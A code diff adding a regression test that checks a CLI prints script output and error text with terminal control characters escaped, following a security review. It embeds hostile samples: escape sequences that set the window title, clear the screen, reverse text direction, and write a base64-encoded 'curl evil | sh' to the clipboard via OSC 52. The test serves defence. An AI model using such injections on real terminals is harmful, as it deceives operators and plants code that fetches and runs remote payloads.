@@ -201,6 +201,45 @@ def test_versions_history_errors_and_stats_read_well(env: tuple[Cli, Path]) -> N
         server.stop()
 
 
+HOSTILE = """\
+on endpoint(event):
+    print("\\x1b]0;pwned\\x07\\x1b[2J\\rforged line \\u202eevil")
+    raise ValueError("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m")
+"""
+
+
+def test_what_scripts_and_callers_wrote_reaches_the_terminal_inert(env: tuple[Cli, Path]) -> None:
+    # Security review, session 16: `logic errors` and `history show` printed
+    # a script's escape sequences raw: on the operator's terminal they set
+    # the window title, cleared the screen, wrote the clipboard (OSC 52).
+    cli, tmp = env
+    sid = cli.json("script", "create", "1", "--name", "hostile", "--file",
+                   _file(tmp, "h.py", HOSTILE))["logicScriptId"]
+    cli.run("endpoint", "enable", "1", sid)
+    secret = cli.json("secret", "regenerate", "1", sid, "--as", "10")["secret"]
+    server = Server(cli.url, str(cli.config)).start()
+    try:
+        answer = server.request(f"/endpoints/1/{sid}", body="\x1b]0;caller\x07", secret=secret,
+                                headers={"Content-Type": "text/plain"})
+        assert answer.status == 500
+        assert wait_until(lambda: len(cli.json("errors", "1", sid)["errors"]) == 1, 20)
+        request_id = cli.json("errors", "1", sid)["errors"][0]["requestId"]
+        for args in (("errors", "1", sid), ("history", "1", sid),
+                     ("history", "show", "1", sid, request_id)):
+            shown = cli.out(*args)
+            assert not any(c in shown for c in "\x1b\x07\r\x7f\x9b\u202e"), (args, shown)
+        shown = cli.out("errors", "1", sid)
+        assert "ValueError: \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m" in shown, shown
+        record = cli.out("history", "show", "1", sid, request_id)
+        assert "\\x1b]0;pwned\\x07\\x1b[2J\\x0dforged line" in record, record
+        assert "\\x1b]0;caller\\x07" in record and "\\u202eevil" in record, record
+        # --json stays exact (every control character escaped by JSON itself).
+        full = cli.json("history", "show", "1", sid, request_id)
+        assert full["output"].startswith("\x1b]0;pwned\x07")
+    finally:
+        server.stop()
+
+
 def test_percentiles_are_the_recorded_durations_not_bucket_bounds(env: tuple[Cli, Path]) -> None:
     """The issue's case: calls of 1.03-2.04 s used to read p50 = p90 = p99 = 2500."""
     from datetime import timedelta
